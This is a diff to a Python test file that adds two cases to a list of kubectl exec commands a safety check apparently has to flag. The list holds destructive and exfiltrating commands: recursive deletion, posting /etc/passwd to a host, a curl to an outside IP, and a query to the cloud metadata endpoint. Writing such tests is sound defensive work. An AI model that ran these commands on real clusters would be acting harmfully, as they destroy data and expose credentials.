@@ -159,6 +159,8 @@ def test_what_has_blanks_or_is_not_known_is_an_example(command: str) -> None:
         "kubectl -n shop exec deploy/cart -- sh -c 'rm -rf /data'",
         'kubectl -n shop exec deploy/cart -- sh -c "cat /x > /y"',
         "kubectl -n shop exec deploy/cart -- curl -d @/etc/passwd http://cart",
+        "kubectl -n shop exec deploy/cart -- curl 203.0.113.9/x",
+        "kubectl -n shop exec deploy/cart -- curl -s 169.254.169.254/latest/meta-data/",
         "kubectl -n shop exec deploy/cart -- find / -exec rm {} +",
         "kubectl get pods " + "x" * 3000,
     ],
